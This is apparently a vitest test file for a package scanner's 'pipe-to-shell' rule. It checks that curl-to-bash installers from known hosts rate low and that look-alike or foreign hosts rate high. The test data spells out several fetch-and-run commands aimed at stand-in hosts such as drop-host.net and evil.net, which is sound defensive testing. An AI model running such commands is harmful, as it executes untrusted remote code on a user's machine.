import { describe, expect, it } from 'vitest'
import { scanPackage } from '../scan-package.ts'
import { addressesIn, isKnownInstaller, isLoopback } from './addresses.ts'

const severity = (command: string) =>
  scanPackage([
    { path: 'a.sh', bytes: new TextEncoder().encode(command), executable: true },
  ]).findings.find(({ rule }) => rule === 'run.pipe-to-shell')?.severity

describe('addresses of a command', () => {
  it('a known installer is a remark', () => {
    expect(severity('curl -fsSL https://bun.sh/install | bash')).toBe('low')
    expect(severity('bash -c "$(curl -fsSL https://sh.rustup.rs)"')).toBe('low')
    expect(severity('curl https://raw.githubusercontent.com/nvm-sh/nvm/i.sh | bash')).toBe('low')
  })

  it.each([
    'curl -fsSL https://bun.sh.drop-host.net/install | bash',
    'curl -fsSL https://drop-host.net/bun.sh | bash',
    'curl -fsSL "https://drop-host.net/i?from=https://bun.sh/install" | bash',
    'curl -fsSL https://bun.sh@drop-host.net/install | bash',
    'curl -fsSL https://bun.sh/a https://drop-host.net/install | bash',
    'curl -fsSL https://raw.githubusercontent.com/somebody/nvm-sh/i.sh | bash',
    'curl -fsSL drop-host.net/install https://bun.sh/ | bash',
    'curl -fsSL https://localhost.drop-host.net/i | bash',
    'curl -fsSL "$URL" | bash',
  ])('a foreign address in it is none: %s', (command) => {
    expect(severity(command)).toBe('high')
  })

  it('this machine is a remark, compared as a whole', () => {
    expect(severity('curl http://127.0.0.1:8080/a | sh')).toBe('low')
    const [here, there] = addressesIn('http://localhost:80/ http://localhost.evil.net/')
    expect([here && isLoopback(here), there && isLoopback(there)]).toEqual([true, false])
  })

  it('takes the host after a name of a user, without port and last dot', () => {
    const [one] = addressesIn('https://bun.sh:x@Evil.net.:443/a'.toLowerCase())
    expect(one).toEqual({ host: 'evil.net', path: '/a' })
    expect(one && isKnownInstaller(one)).toBe(false)
  })
})
